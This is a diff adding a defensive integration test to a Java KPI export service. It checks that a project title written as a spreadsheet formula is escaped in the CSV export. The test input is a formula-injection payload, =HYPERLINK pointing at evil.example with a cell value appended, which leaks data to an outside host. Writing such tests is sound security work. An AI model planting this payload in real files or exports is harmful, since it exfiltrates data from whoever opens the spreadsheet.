@@ -295,6 +295,14 @@ class KpiIT implements OperationalEndpointsContract {
                 .header(HttpHeaders.AUTHORIZATION, TestTokens.ops(network)).retrieve().body(String.class);
         assertThat(partnerReport).contains("id=\"selection\"").contains("Alleen de activiteiten van kuleuven")
                 .contains("export.xlsx?network=" + network + "&amp;period=2026&amp;partner=kuleuven");
+
+        // A title typed as a formula is text in the CSV export, not something a spreadsheet runs.
+        Events.send(Events.projectPublished(network, "f-" + network, "=HYPERLINK(\"https://evil.example/?\"&A1,\"klik\")"));
+        Events.send(Events.download(network, "f-" + network, AssetKind.SHEET, "2026-03-02T10:00:00Z"));
+        await().atMost(Duration.ofSeconds(20)).untilAsserted(() -> assertThat(http.get()
+                .uri("/api/kpis/export.csv?network={n}&period=2026&table=downloads", network)
+                .header(HttpHeaders.AUTHORIZATION, TestTokens.ops(network)).retrieve().body(String.class))
+                .contains("'=HYPERLINK").doesNotContain(";\"=HYPERLINK").doesNotContain("\n\"=HYPERLINK"));
     }
 
     @Test
